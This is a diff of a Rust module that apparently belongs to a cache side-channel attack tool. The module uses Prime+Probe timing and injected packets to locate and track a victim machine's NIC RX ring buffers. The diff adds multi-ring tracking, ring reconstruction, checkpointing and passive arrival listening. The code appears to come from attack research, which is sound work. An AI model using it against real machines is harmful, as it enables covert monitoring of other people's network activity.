@@ -2,38 +2,93 @@
 //! This module is responsible for tracking and gathering measurements on the state
 //! of the RX buffer of the victim machine.
 
+mod checkpoint;
+mod measurement;
 mod pattern;
+mod ring;
+mod saved;
+mod stats;
 mod tracking;
 
 pub use crate::connection::Time;
 use crate::connection::{CacheConnector, PacketSender};
-use crate::output::Record;
-pub use crate::rpp::params::CacheParams;
+use crate::output::{Event, Message, Record, SessionFooter, SessionInfo, StopReason};
+use crate::{Error, Result};
+pub use crate::rpp::params::{CacheParams, CacheSource};
 pub use crate::rpp::{
-    has_activation, ColorCode, ColoredSetCode, Contents, Latencies, ProbeResult, ProbeResult::*,
-    Rpp, SetCode,
+    has_activation, ActivationRule, Aging, ClassifierKind, ClassifierState, ColorCode,
+    ColoredSetCode, Contents, DriftConfig, Latencies, MeasureMode, MeasurePhases, PrimeStrategy,
+    Probe, ProbeResult, ProbeResult::*, ProbeStrategy, Rpp, SetCode,
 };
 use console::style;
-use pattern::{Pattern, PatternIdx, PossiblePatterns};
-use std::collections::HashMap;
-use std::io::Result;
-use std::io::{Error, ErrorKind};
-use std::time::Instant;
-pub use tracking::SyncStatus;
-use tracking::TrackingContext;
+pub use checkpoint::{Checkpoint, CheckpointConfig, CHECKPOINT_VERSION};
+use pattern::{window_center, Pattern, PatternIdx, PossiblePatterns};
+pub use pattern::{PatternScore, DEFAULT_WINDOW_SIZE};
+pub use measurement::{Arrival, Measurement, MEASUREMENT_VERSION};
+pub use ring::RingLayout;
+pub use saved::{SavedPatterns, SavedRing};
+pub use stats::TrackerStats;
+use std::cmp;
+use std::collections::{HashMap, HashSet};
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};
+pub use tracking::{SyncPolicy, SyncStatus, TrackingContext};
 
-pub type LatsEntry = (Vec<ProbeResult<Latencies>>, SyncStatus, Time);
-pub type SavedLats = Vec<LatsEntry>;
+/// Index of an RX ring among the tracked ones
+pub type RingId = usize;
+pub type SavedLats = Vec<Measurement>;
 
 const REPEATINGS: usize = 8;
+const MAX_REPEATINGS: usize = 4 * REPEATINGS;
+// Rounds over a saved pattern to verify it
+const VERIFY_REPEATINGS: usize = 4;
+const DEFAULT_MIN_PATTERN_SCORE: f64 = 0.5;
+// Colors, which score at least this share of the minimal score, are observed longer
+const PROMISING_SHARE: f64 = 0.75;
 const MAX_FAIL_CNT: usize = 100;
 
+/// Tells, when tracking is over. Tracking can also be stopped from outside, e.g.
+/// from a signal handler, see `OnlineTracker::stop_flag`.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum TrackingLimit {
+    /// The given number of measurements is taken
+    Count(usize),
+    /// The given time has passed since the start of tracking
+    Duration(Duration),
+}
+
+impl TrackingLimit {
+    /// Checks whether the limit is reached with `done` measurements taken
+    /// since `started`
+    pub fn is_reached(&self, done: usize, started: Instant) -> bool {
+        match *self {
+            TrackingLimit::Count(cnt) => done >= cnt,
+            TrackingLimit::Duration(duration) => started.elapsed() >= duration,
+        }
+    }
+}
+
 /// Builds and sets up `OnlineTracker`
 pub struct OnlineTrackerBuilder<C, R, S> {
     conn: Option<C>,
     output: Option<R>,
     sender: Option<S>,
     cparam: Option<CacheParams>,
+    cache_source: CacheSource,
+    prime: PrimeStrategy,
+    probe: ProbeStrategy,
+    rule: ActivationRule,
+    classifier: ClassifierKind,
+    drift: DriftConfig,
+    measure: MeasurePhases,
+    min_pattern_score: f64,
+    saved: Option<SavedPatterns>,
+    reconstruct: bool,
+    sync: SyncPolicy,
+    window: usize,
+    checkpoints: Option<CheckpointConfig>,
+    resumed: Option<Resumed>,
     quite: bool,
 }
 
@@ -44,6 +99,20 @@ impl<C, R, S> Default for OnlineTrackerBuilder<C, R, S> {
             output: None,
             sender: None,
             cparam: None,
+            cache_source: Default::default(),
+            prime: Default::default(),
+            probe: Default::default(),
+            rule: Default::default(),
+            classifier: Default::default(),
+            drift: Default::default(),
+            measure: Default::default(),
+            min_pattern_score: DEFAULT_MIN_PATTERN_SCORE,
+            saved: None,
+            reconstruct: false,
+            sync: Default::default(),
+            window: DEFAULT_WINDOW_SIZE,
+            checkpoints: None,
+            resumed: None,
             quite: false,
         }
     }
@@ -59,7 +128,7 @@ impl<C, R, S> OnlineTrackerBuilder<C, R, S> {
 impl<C, R, S> OnlineTrackerBuilder<C, R, S>
 where
     C: CacheConnector<Item = Contents>,
-    R: Record<LatsEntry>,
+    R: Record<Measurement>,
     S: PacketSender,
 {
     /// Sets connector for the future `OnlineTracker`
@@ -92,55 +161,272 @@ where
         self
     }
 
-    /// Finalizes the construction. Fails if `conn`, `output`, or `sender` not set.
+    /// Tells, where the cache parameters come from. It is only recorded in the output.
+    pub fn set_cache_source(mut self, cache_source: CacheSource) -> Self {
+        self.cache_source = cache_source;
+        self
+    }
+
+    /// Sets the order, in which eviction set lines are accessed while priming
+    pub fn set_prime_strategy(mut self, prime: PrimeStrategy) -> Self {
+        self.prime = prime;
+        self
+    }
+
+    /// Sets the order, in which eviction set lines are timed while probing
+    pub fn set_probe_strategy(mut self, probe: ProbeStrategy) -> Self {
+        self.probe = probe;
+        self
+    }
+
+    /// Sets the rule, which decides whether a probed set is activated
+    pub fn set_activation_rule(mut self, rule: ActivationRule) -> Self {
+        self.rule = rule;
+        self
+    }
+
+    /// Sets the kind of the classifier, which tells cache hits from misses
+    pub fn set_classifier(mut self, classifier: ClassifierKind) -> Self {
+        self.classifier = classifier;
+        self
+    }
+
+    /// Sets, how the classifier follows the latency drift during tracking
+    pub fn set_drift(mut self, drift: DriftConfig) -> Self {
+        self.drift = drift;
+        self
+    }
+
+    /// Sets, how accesses are timed while profiling, locating RX buffer and tracking
+    pub fn set_measure_phases(mut self, measure: MeasurePhases) -> Self {
+        self.measure = measure;
+        self
+    }
+
+    /// Sets the minimal score in `[0, 1]`, which an RX pattern needs to be tracked.
+    /// Colors, which score close to it, are observed for more repetitions.
+    pub fn set_min_pattern_score(mut self, min_pattern_score: f64) -> Self {
+        self.min_pattern_score = min_pattern_score;
+        self
+    }
+
+    /// Starts from the saved RX patterns instead of building eviction sets and
+    /// locating RX buffers. The patterns are verified on initialization, and if they
+    /// no longer activate, the RX buffers are located anew.
+    pub fn set_saved_patterns(mut self, saved: SavedPatterns) -> Self {
+        self.saved = Some(saved);
+        self
+    }
+
+    /// Chains the patterns of all colors into a single RX ring, which spans many
+    /// pages, and tracks it instead of the rings of single colors
+    pub fn set_reconstruct_ring(mut self, reconstruct: bool) -> Self {
+        self.reconstruct = reconstruct;
+        self
+    }
+
+    /// Sets, when packets are injected to synchronize with the RX rings
+    pub fn set_sync_policy(mut self, sync: SyncPolicy) -> Self {
+        self.sync = sync;
+        self
+    }
+
+    /// Sets the number of sets, which are probed around the current position in a ring
+    pub fn set_window_size(mut self, window: usize) -> Self {
+        self.window = window;
+        self
+    }
+
+    /// Saves checkpoints of synchronized tracking as configured. A failed or stopped
+    /// session is continued from the last one with `resume_from`.
+    pub fn set_checkpoints(mut self, checkpoints: CheckpointConfig) -> Self {
+        self.checkpoints = Some(checkpoints);
+        self
+    }
+
+    /// Resumes the session, saved in the checkpoint. Its settings, cache parameters
+    /// and patterns replace the ones, set before. The patterns are verified on
+    /// initialization, but unlike the saved ones (see `set_saved_patterns`), they are
+    /// never located anew, as the output could not be continued then.
+    pub fn resume_from(mut self, checkpoint: Checkpoint) -> Self {
+        let info = checkpoint.info;
+        self.cparam = Some(info.cache);
+        self.cache_source = info.cache_source;
+        self.prime = info.prime;
+        self.probe = info.probe;
+        self.rule = info.activation;
+        self.classifier = info.classifier;
+        self.drift = info.drift;
+        self.measure = info.measure;
+        self.min_pattern_score = info.min_pattern_score;
+        self.sync = info.sync;
+        self.window = info.window;
+        // a reconstructed ring is saved as is
+        self.reconstruct = false;
+        self.saved = Some(checkpoint.patterns);
+        self.resumed = Some(Resumed {
+            contexts: checkpoint.contexts,
+            measurements: checkpoint.measurements,
+            elapsed: checkpoint.elapsed,
+            classifier: checkpoint.classifier,
+            layout: info.layout,
+        });
+        self
+    }
+
+    /// Finalizes the construction. Fails if `conn`, `output`, or `sender` not set,
+    /// if the cache parameters, the prime strategy, the minimal pattern score, the window
+    /// size or the checkpoint interval are invalid, if the saved patterns are invalid or
+    /// built for other cache parameters, or if a resumed position is out of its pattern.
     pub fn finalize(self) -> Result<OnlineTracker<C, R, S>> {
-        let conn = self.conn.ok_or_else(|| Error::new(
-            ErrorKind::InvalidData,
-            "ERROR: connector is not set",
-        ))?;
+        let conn = self
+            .conn
+            .ok_or_else(|| Error::InvalidConfig("connector is not set".to_string()))?;
 
-        let output = self.output.ok_or_else(|| Error::new(
-            ErrorKind::InvalidData,
-            "ERROR: output is not set",
-        ))?;
+        let output = self
+            .output
+            .ok_or_else(|| Error::InvalidConfig("output is not set".to_string()))?;
 
-        let sender = self.sender.ok_or_else(|| Error::new(
-            ErrorKind::InvalidData,
-            "ERROR: packet sender is not set",
-        ))?;
+        let sender = self
+            .sender
+            .ok_or_else(|| Error::InvalidConfig("packet sender is not set".to_string()))?;
 
         let cparam = self.cparam.unwrap_or_default();
+        cparam.validate()?;
+        self.prime.validate()?;
+
+        if !(0.0..=1.0).contains(&self.min_pattern_score) {
+            return Err(Error::InvalidConfig(
+                "minimal pattern score should be in [0, 1]".to_string(),
+            ));
+        }
+
+        if self.window < 3 {
+            return Err(Error::InvalidConfig("window should have at least 3 sets".to_string()));
+        }
+
+        if self.checkpoints.as_ref().map_or(false, |c| c.every == 0) {
+            return Err(Error::InvalidConfig(
+                "checkpoints should be saved at least every measurement".to_string(),
+            ));
+        }
 
         let quite = self.quite;
 
-        let rpp = Rpp::with_params(conn, quite, cparam);
+        let mut info = SessionInfo {
+            cache: cparam,
+            cache_source: self.cache_source,
+            prime: self.prime,
+            probe: self.probe,
+            activation: self.rule,
+            classifier: self.classifier,
+            drift: self.drift,
+            measure: self.measure,
+            min_pattern_score: self.min_pattern_score,
+            patterns: Vec::new(),
+            sync: self.sync,
+            window: self.window,
+            layout: self.resumed.as_ref().and_then(|r| r.layout.clone()),
+        };
+
+        let mut classifier = self.classifier.build_aged(self.drift.aging);
+        let profiling = self.measure.profiling;
+        let (mut rpp, patterns, verify) = match self.saved {
+            Some(saved) => {
+                saved.validate()?;
+                if saved.cache != cparam {
+                    return Err(Error::InvalidConfig(
+                        "saved patterns are built for other cache parameters".to_string(),
+                    ));
+                }
+
+                let (sets, patterns, scores) = saved.into_parts();
+                info.patterns = scores;
+                // a resumed classifier is restored instead of retraining it
+                let restored = match self.resumed.as_ref().and_then(|r| r.classifier.as_ref()) {
+                    Some(state) => classifier.restore(state).is_ok(),
+                    None => false,
+                };
+                let rpp = if restored {
+                    Rpp::with_trained_sets(conn, quite, cparam, classifier, profiling, sets)
+                } else {
+                    Rpp::with_sets(conn, quite, cparam, classifier, profiling, sets)
+                };
+                (rpp, patterns, true)
+            }
+            None => {
+                let rpp = Rpp::with_profiling(conn, quite, cparam, classifier, profiling);
+                (rpp, Vec::new(), false)
+            }
+        };
+        rpp.set_prime_strategy(self.prime);
+        rpp.set_probe_strategy(self.probe);
+        rpp.set_activation_rule(self.rule);
+
+        if let Some(resumed) = &self.resumed {
+            let valid = resumed.contexts.len() == patterns.len()
+                && resumed
+                    .contexts
+                    .iter()
+                    .zip(patterns.iter())
+                    .all(|(ctx, pattern)| ctx.pos() < pattern.len());
+            if !valid {
+                return Err(Error::InvalidConfig(
+                    "resumed positions do not match the patterns".to_string(),
+                ));
+            }
+        }
 
         Ok(OnlineTracker {
             rpp,
             output,
             sender,
-            pattern: Default::default(),
+            patterns,
+            info,
             quite,
             init: false,
+            verify,
+            reconstruct: self.reconstruct,
+            checkpoints: self.checkpoints,
+            resumed: self.resumed,
+            stop: Default::default(),
+            stats: Default::default(),
+            started: Instant::now(),
         })
     }
 }
 
 /// The main tracking component. Observes cache activity and records
 /// victim's interations.
+///
+/// Multi-queue NICs keep an RX ring per queue. The tracker follows each located
+/// ring with its own `TrackingContext`, interleaves the probing windows of the rings
+/// and tags each measurement with the `RingId` of its ring.
 pub struct OnlineTracker<C, R, S> {
     rpp: Rpp<C>,
     output: R,
     sender: S,
-    pattern: Pattern,
+    patterns: Vec<Pattern>,
+    info: SessionInfo,
     quite: bool,
     init: bool,
+    // the patterns are saved ones and have not been verified yet
+    verify: bool,
+    // the patterns of all colors are chained into a single ring
+    reconstruct: bool,
+    checkpoints: Option<CheckpointConfig>,
+    // the checkpointed session, which is continued by the next tracking
+    resumed: Option<Resumed>,
+    stop: Arc<AtomicBool>,
+    stats: Arc<Mutex<TrackerStats>>,
+    // the start of the current tracking session
+    started: Instant,
 }
 
 impl<C, R, S> OnlineTracker<C, R, S>
 where
     C: CacheConnector<Item = Contents>,
-    R: Record<LatsEntry>,
+    R: Record<Measurement>,
     S: PacketSender,
 {
     /// Sets the verbosity of the Online Tracker instance
@@ -154,16 +440,42 @@ where
             eprintln!("Online Tracker: {}", style("INITIALIZING").green());
         }
 
+        if self.verify {
+            self.verify = false;
+            match self.verify_patterns() {
+                Ok(()) => {
+                    if !self.quite {
+                        eprintln!(
+                            "Online Tracker: {}",
+                            style("SAVED PATTERNS VERIFIED").green()
+                        );
+                        self.report_resumed();
+                    }
+                    self.init = true;
+                    return Ok(());
+                }
+                // the patterns of the resumed output cannot be changed
+                Err(e) if self.resumed.is_some() => {
+                    return Err(Error::ResumeFailed(Box::new(e)));
+                }
+                Err(e) => {
+                    if !self.quite {
+                        let msg = format!("Saved patterns are rejected, locating RX buffers: {}", e);
+                        eprintln!("Online Tracker: {}", style(msg).yellow());
+                    }
+                    self.rpp.rebuild_sets();
+                }
+            }
+        }
+
         while let Err(e) = self.locate_rx() {
+            if self.is_stopped() {
+                return Err(Error::Stopped);
+            }
+
             err_cnt += 1;
             if err_cnt > MAX_FAIL_CNT {
-                return Err(Error::new(
-                    ErrorKind::NotConnected,
-                    format!(
-                        "ERROR: INITIALIZATION FAILED. Could not locate RX buffer in memory: {}",
-                        e
-                    ),
-                ));
+                return Err(Error::LocationFailed(Box::new(e)));
             }
         }
 
@@ -178,12 +490,100 @@ where
         Ok(())
     }
 
+    // Tells, where the resumed session continues
+    fn report_resumed(&self) {
+        if let Some(resumed) = &self.resumed {
+            eprintln!(
+                "Online Tracker: resuming after {} measurements",
+                resumed.measurements
+            );
+        }
+    }
+
+    /// Returns the located RX patterns with their eviction sets, which can be given
+    /// to the next tracker to skip the location.
+    ///
+    /// # Fails
+    ///
+    /// Fails if the tracker is not initialized.
+    pub fn saved_patterns(&self) -> Result<SavedPatterns> {
+        if !self.init {
+            return Err(Error::NotInitialized);
+        }
+
+        Ok(SavedPatterns::new(
+            self.info.cache,
+            &self.patterns,
+            &self.info.patterns,
+            |set_code| self.rpp.eviction_set(set_code),
+        ))
+    }
+
     /// Allows to change output between measurements
     pub fn set_output(&mut self, output: R) {
         self.output = output;
     } 
 
-    /// Starts online tracking phase.
+    /// Returns the flag, which stops tracking after the current measurement once set.
+    /// The flag is never cleared by the tracker, so it has to be reset before
+    /// tracking again. It also interrupts the initialization.
+    pub fn stop_flag(&self) -> Arc<AtomicBool> {
+        Arc::clone(&self.stop)
+    }
+
+    fn is_stopped(&self) -> bool {
+        self.stop.load(Ordering::SeqCst)
+    }
+
+    /// Returns the statistics of the current or the last tracking session
+    pub fn stats(&self) -> TrackerStats {
+        let mut stats = self.with_stats(|stats| stats.clone());
+        stats.update_elapsed();
+        stats
+    }
+
+    /// Returns the statistics, which are updated while tracking, e.g. to show them
+    /// from another thread. They are started anew with each tracking session.
+    pub fn stats_handle(&self) -> Arc<Mutex<TrackerStats>> {
+        Arc::clone(&self.stats)
+    }
+
+    fn with_stats<T, F: FnOnce(&mut TrackerStats) -> T>(&self, f: F) -> T {
+        // the statistics stay usable, even if a watcher panicked
+        let mut stats = self.stats.lock().unwrap_or_else(|e| e.into_inner());
+        f(&mut stats)
+    }
+
+    // Starts the clock and the statistics of a tracking session. The clock of
+    // a resumed session goes on from the checkpoint.
+    fn start_session(&mut self) {
+        let elapsed = Duration::from_nanos(self.resumed.as_ref().map_or(0, |r| r.elapsed));
+        self.started = Instant::now()
+            .checked_sub(elapsed)
+            .unwrap_or_else(Instant::now);
+        let ring_lens: Vec<usize> = self.patterns.iter().map(|p| p.len()).collect();
+        self.with_stats(|stats| *stats = TrackerStats::start(&ring_lens, MAX_FAIL_CNT));
+    }
+
+    /// Starts online tracking phase, which takes `cnt` measurements.
+    /// See `track_until`.
+    pub fn track(&mut self, cnt: usize) -> Result<()> {
+        self.track_until(TrackingLimit::Count(cnt)).map(|_| ())
+    }
+
+    /// Starts online tracking phase, which lasts for the given time.
+    /// See `track_until`.
+    pub fn track_for(&mut self, duration: Duration) -> Result<()> {
+        self.track_until(TrackingLimit::Duration(duration)).map(|_| ())
+    }
+
+    /// Starts online tracking phase, which goes on until the limit is reached or
+    /// the stop flag is set. The session footer is recorded and the output is flushed
+    /// in any case, even if tracking fails. Returns the footer.
+    ///
+    /// If checkpoints are configured, one is saved after each given number of
+    /// measurements and when tracking is stopped. A resumed session counts the
+    /// measurements and the time from the start of the checkpointed one.
     ///
     /// # Fails
     ///
@@ -194,17 +594,99 @@ where
     /// - No pattern in cache could be found even after retries
     /// - Cannot find the initial possition in RX buffer of the victim server
     ///
-    pub fn track(&mut self, cnt: usize) -> Result<()> {
-        let quite = self.quite;
+    pub fn track_until(&mut self, limit: TrackingLimit) -> Result<SessionFooter> {
+        self.run_session::<Measurement, _>(limit, Self::measure)
+    }
 
+    /// Starts passive tracking, which goes on until the limit is reached or the stop
+    /// flag is set. No packets are sent: the given sets are probed in turns and each
+    /// activation is recorded as an `Arrival`. The limit counts the arrivals. The
+    /// session footer is recorded and the output is flushed in any case.
+    ///
+    /// It samples much faster than the synchronized tracking and does not disturb
+    /// the victim with its own traffic.
+    ///
+    /// # Fails
+    ///
+    /// Fails if the tracker is not initialized or resumes a checkpoint, if no sets are
+    /// given or some of them are not a part of the located patterns (see `pattern_sets`),
+    /// or if probing keeps failing.
+    pub fn track_arrivals(
+        &mut self,
+        limit: TrackingLimit,
+        sets: &[SetCode],
+    ) -> Result<SessionFooter>
+    where
+        R: Record<Arrival>,
+    {
         if !self.init {
-            return Err(Error::new(
-                ErrorKind::InvalidData,
-                "ERROR: Online tracker is not initialized. Call init().",
+            return Err(Error::NotInitialized);
+        }
+
+        if self.resumed.is_some() {
+            return Err(Error::InvalidConfig(
+                "Checkpoints are only resumed by synchronized tracking".to_string(),
             ));
         }
 
-        self.output.separate()?;
+        let places = self.places(sets)?;
+        self.run_session::<Arrival, _>(limit, |tracker, limit, started, done| {
+            tracker.listen(sets, &places, limit, started, done)
+        })
+    }
+
+    /// Returns the sets of all located patterns in the order of the rings, each once
+    pub fn pattern_sets(&self) -> Vec<SetCode> {
+        let mut seen = HashSet::new();
+        self.patterns
+            .iter()
+            .flat_map(|pattern| pattern.iter().copied())
+            .filter(|set_code| seen.insert(*set_code))
+            .collect()
+    }
+
+    // Finds the ring and the first position in its pattern for each of the sets
+    fn places(&self, sets: &[SetCode]) -> Result<Vec<(RingId, PatternIdx)>> {
+        if sets.is_empty() {
+            return Err(Error::InvalidConfig("No sets to track".to_string()));
+        }
+
+        sets.iter()
+            .map(|set_code| {
+                self.patterns
+                    .iter()
+                    .enumerate()
+                    .find_map(|(ring, pattern)| {
+                        pattern.iter().position(|s| s == set_code).map(|pos| (ring, pos))
+                    })
+                    .ok_or_else(|| {
+                        Error::InvalidConfig(format!(
+                            "Set {:?} is not a part of the located patterns",
+                            set_code
+                        ))
+                    })
+            })
+            .collect()
+    }
+
+    // Runs a tracking session, which records `T` to the output. `measure` records
+    // until the limit is reached or tracking is stopped, and is restarted on errors.
+    fn run_session<T, F>(&mut self, limit: TrackingLimit, mut measure: F) -> Result<SessionFooter>
+    where
+        R: Record<T>,
+        F: FnMut(&mut Self, TrackingLimit, Instant, &mut usize) -> Result<StopReason>,
+    {
+        let quite = self.quite;
+
+        if !self.init {
+            return Err(Error::NotInitialized);
+        }
+
+        Record::<T>::separate(&mut self.output)?;
+        Record::<T>::describe(&mut self.output, &self.info)?;
+        self.start_session();
+        let started = self.started;
+        let mut done = self.resumed.as_ref().map_or(0, |r| r.measurements);
 
         if !quite {
             eprintln!(
@@ -214,27 +696,76 @@ where
         }
 
         let mut err_cnt = 0;
-        while let Err(e) = self.measure(cnt) {
-            err_cnt += 1;
+        let res = loop {
+            match measure(self, limit, started, &mut done) {
+                Ok(stop) => break Ok(stop),
+                // a failure after the stop request is likely caused by it
+                Err(_) if self.is_stopped() => break Ok(StopReason::Stopped),
+                Err(e) => {
+                    err_cnt += 1;
+                    self.with_stats(|stats| stats.retries += 1);
 
-            if err_cnt > MAX_FAIL_CNT {
-                return Err(e);
+                    // the receiver of the results is gone, there is no one to measure for
+                    if err_cnt > MAX_FAIL_CNT || matches!(e, Error::Disconnected) {
+                        break Err(e);
+                    }
+                }
             }
-        }
+        };
+
+        self.with_stats(|stats| stats.finish());
+        let footer = SessionFooter {
+            measurements: done,
+            elapsed: started.elapsed().as_nanos() as Time,
+            stop: match &res {
+                Ok(stop) => stop.clone(),
+                Err(e) => StopReason::Failed(e.to_string()),
+            },
+            stats: self.stats(),
+        };
+        let finished = Record::<T>::finish(&mut self.output, &footer)
+            .and_then(|_| Record::<T>::flush(&mut self.output));
+        let stop = res?;
+        finished?;
 
         if !quite {
-            eprintln!(
-                "Online Tracker: {}",
-                style("MEASUREMENTS COMPLETED").green()
-            );
+            let msg = match stop {
+                StopReason::Stopped => "MEASUREMENTS STOPPED",
+                _ => "MEASUREMENTS COMPLETED",
+            };
+            eprintln!("Online Tracker: {}", style(msg).green());
+            eprintln!("{}", footer.stats);
         }
 
-        Ok(())
+        Ok(footer)
+    }
+
+    /// Starts online tracking phase, handing the measurements to the caller as they
+    /// are taken. See `Measurements`.
+    ///
+    /// # Fails
+    ///
+    /// Fails if the tracker is not initialized.
+    pub fn measurements(&mut self) -> Result<Measurements<'_, C, R, S>> {
+        if !self.init {
+            return Err(Error::NotInitialized);
+        }
+
+        self.start_session();
+
+        Ok(Measurements {
+            pending: Some(Message::Session(Box::new(self.info.clone()))),
+            tracker: self,
+            state: None,
+            err_cnt: 0,
+            done: false,
+        })
     }
 
-    /// Locates the RX buffer in the cache. The buffer is expected to reside
-    /// on a single page and be a single for the os (sometimes there might be
-    /// multiple RX buffers). Repeats the process if the pattern is indistinctive.
+    /// Locates the RX buffers in the cache. Each buffer is expected to reside
+    /// on a single page, unless the ring is reconstructed across colors. There
+    /// might be multiple RX buffers (one per receive queue), each of them is
+    /// tracked separately. Repeats the process if no pattern is distinctive.
     ///
     /// # Fails
     ///
@@ -242,36 +773,81 @@ where
     /// packets to the target, and if the pattern cannot be found in the set
     /// of data.
     fn locate_rx(&mut self) -> Result<()> {
+        self.rpp.set_probe_mode(self.info.measure.locating);
         let patterns = self.locate_rx_round()?;
-        self.pattern = Pattern::find(patterns)?;
+        let (mut patterns, mut scores): (Vec<Pattern>, Vec<PatternScore>) =
+            Pattern::find_all(patterns, self.info.min_pattern_score)?
+                .into_iter()
+                .unzip();
+
+        if self.reconstruct {
+            let (pattern, score, layout) = self.reconstruct_ring(&patterns)?;
+            if !self.quite {
+                eprintln!(
+                    "Online Tracker: RX ring reconstructed: {} descriptors over {} colors{}",
+                    layout.descriptors,
+                    layout.colors,
+                    if layout.flipped { ", page flipping" } else { "" }
+                );
+            }
+            patterns = vec![pattern];
+            scores = vec![score];
+            self.info.layout = Some(layout);
+        }
+
+        self.patterns = patterns;
+        self.info.patterns = scores;
+
+        if !self.quite {
+            for (ring, score) in self.info.patterns.iter().enumerate() {
+                eprintln!(
+                    "Online Tracker: RX ring {}: color {}, length {}, score {:.2} (margin {:.2}, consistency {:.2}, periodicity {:.2})",
+                    ring,
+                    score.color,
+                    score.period,
+                    score.score,
+                    score.margin,
+                    score.consistency,
+                    score.periodicity
+                );
+            }
+        }
 
         Ok(())
     }
 
+    // Observes each color for REPEATINGS rounds. Colors, which are likely to
+    // have a pattern, but score too low, are observed for more rounds.
     fn locate_rx_round(&mut self) -> Result<PossiblePatterns> {
         let mut patterns = HashMap::with_capacity(self.rpp.colors_len());
         let color_codes = self.rpp.colors().collect::<Vec<ColorCode>>();
+        let min_score = self.info.min_pattern_score;
+        let is_promising = |color_code, pattern: &[Option<ColoredSetCode>]| {
+            match Pattern::detect(color_code, pattern) {
+                Some((_, score)) => {
+                    score.score < min_score && score.score >= min_score * PROMISING_SHARE
+                }
+                None => false,
+            }
+        };
 
         for color_code in color_codes.into_iter() {
             let color_len = self.rpp.color_len(color_code);
-            let mut pattern = Vec::with_capacity(color_len);
+            let mut pattern = Vec::with_capacity(color_len * REPEATINGS);
             let set_codes = self
                 .rpp
                 .iter_color(color_code)
                 .collect::<Vec<ColoredSetCode>>();
 
-            for _ in 0..REPEATINGS {
-                for &colored_set_code in set_codes.iter() {
-                    let set_code = SetCode(color_code, colored_set_code);
-                    self.rpp.prime(&set_code)?;
-                    self.sender.send_packet()?;
-                    self.sender.send_packet()?;
-                    if self.rpp.probe(&set_code)?.is_activated() {
-                        pattern.push(Some(set_code.1));
-                    } else {
-                        pattern.push(None);
-                    }
+            for round in 0..MAX_REPEATINGS {
+                if round >= REPEATINGS
+                    && round % REPEATINGS == 0
+                    && !is_promising(color_code, &pattern)
+                {
+                    break;
                 }
+
+                self.observe(color_code, &set_codes, &mut pattern)?;
             }
 
             patterns.insert(color_code, pattern);
@@ -280,19 +856,140 @@ where
         Ok(patterns)
     }
 
-    fn get_init_pos(&mut self) -> Result<PatternIdx> {
+    // Chains the patterns of single colors into one ring. All of their sets are
+    // primed, a single packet is injected and the most confident activation is
+    // recorded, so that each packet reveals the next descriptor in the ring.
+    fn reconstruct_ring(
+        &mut self,
+        fragments: &[Pattern],
+    ) -> Result<(Pattern, PatternScore, RingLayout)> {
+        let mut set_codes: Vec<SetCode> = fragments.iter().flat_map(|p| p.iter().copied()).collect();
+        set_codes.sort_unstable();
+        set_codes.dedup();
+
+        // each set is used at most once per round over the ring
+        let packets = set_codes.len() * REPEATINGS;
+        let mut obs = Vec::with_capacity(packets);
+        for _ in 0..packets {
+            if self.is_stopped() {
+                return Err(Error::Stopped);
+            }
+
+            self.rpp.prime_all(&set_codes)?;
+            self.sender.send_packet()?;
+            let probe_res = self.rpp.probe_all(&set_codes)?;
+            let activated = set_codes
+                .iter()
+                .zip(probe_res.iter())
+                .filter(|(_, res)| res.is_activated())
+                .max_by(|(_, a), (_, b)| {
+                    a.confidence()
+                        .partial_cmp(&b.confidence())
+                        .unwrap_or(cmp::Ordering::Equal)
+                })
+                .map(|(&set_code, _)| set_code);
+            obs.push(activated);
+        }
+
+        let min_score = self.info.min_pattern_score;
+        match ring::reconstruct(&obs) {
+            Some((pattern, score, layout)) if score.score >= min_score => {
+                Ok((pattern, score, layout))
+            }
+            Some((_, score, _)) => Err(Error::PatternAmbiguous {
+                subject: "The reconstructed RX ring".to_string(),
+                score: score.score,
+                min_score,
+            }),
+            None => Err(Error::PatternNotFound(
+                "No repeating activations observed over the RX ring".to_string(),
+            )),
+        }
+    }
+
+    // Primes and probes each of the sets once, while sending packets, and records,
+    // which of them get activated
+    fn observe(
+        &mut self,
+        color_code: ColorCode,
+        set_codes: &[ColoredSetCode],
+        pattern: &mut Vec<Option<ColoredSetCode>>,
+    ) -> Result<()> {
+        for &colored_set_code in set_codes.iter() {
+            let set_code = SetCode(color_code, colored_set_code);
+            if self.observe_set(&set_code)? {
+                pattern.push(Some(set_code.1));
+            } else {
+                pattern.push(None);
+            }
+        }
+
+        Ok(())
+    }
+
+    // Primes and probes the set, while sending packets. Tells, whether it gets activated.
+    fn observe_set(&mut self, set_code: &SetCode) -> Result<bool> {
+        self.rpp.prime(set_code)?;
+        self.sender.send_packet()?;
+        self.sender.send_packet()?;
+        Ok(self.rpp.probe(set_code)?.is_activated())
+    }
+
+    // Observes each saved ring for a few rounds. The rings are kept, if their
+    // patterns are still distinctive. The sets keep their saved codes, so a ring
+    // may span many colors.
+    fn verify_patterns(&mut self) -> Result<()> {
+        self.rpp.set_probe_mode(self.info.measure.locating);
+        let min_score = self.info.min_pattern_score;
+        let mut scores = Vec::with_capacity(self.patterns.len());
+
+        for ring in 0..self.patterns.len() {
+            let set_codes = self.patterns[ring].clone();
+            let mut obs = Vec::with_capacity(set_codes.len() * VERIFY_REPEATINGS);
+            for _ in 0..VERIFY_REPEATINGS {
+                for set_code in set_codes.iter() {
+                    let activated = self.observe_set(set_code)?;
+                    obs.push(if activated { Some(*set_code) } else { None });
+                }
+            }
+
+            let color = self.info.patterns[ring].color;
+            match Pattern::fold(&obs).map(|folded| folded.score(color)) {
+                Some(score) if score.score >= min_score => scores.push(score),
+                Some(score) => {
+                    return Err(Error::PatternAmbiguous {
+                        subject: format!("RX ring {}", ring),
+                        score: score.score,
+                        min_score,
+                    })
+                }
+                None => {
+                    return Err(Error::PatternNotFound(format!(
+                        "RX ring {} is not activated",
+                        ring
+                    )))
+                }
+            }
+        }
+
+        self.info.patterns = scores;
+        Ok(())
+    }
+
+    fn get_init_pos(&mut self, ring: RingId, deadline: Option<Instant>) -> Result<PatternIdx> {
+        let first = self.patterns[ring][0];
         let mut err_cnt = 0;
 
         // We prime and probe the first set in the pattern
         // until we register activation
         loop {
+            if self.is_stopped() || deadline.map_or(false, |d| Instant::now() >= d) {
+                return Err(Error::Stopped);
+            }
             if err_cnt >= MAX_FAIL_CNT {
-                return Err(Error::new(
-                    ErrorKind::Other,
-                    "ERROR: Cannot determine the initial position in RX",
-                ));
+                return Err(Error::NoInitialPosition(ring));
             }
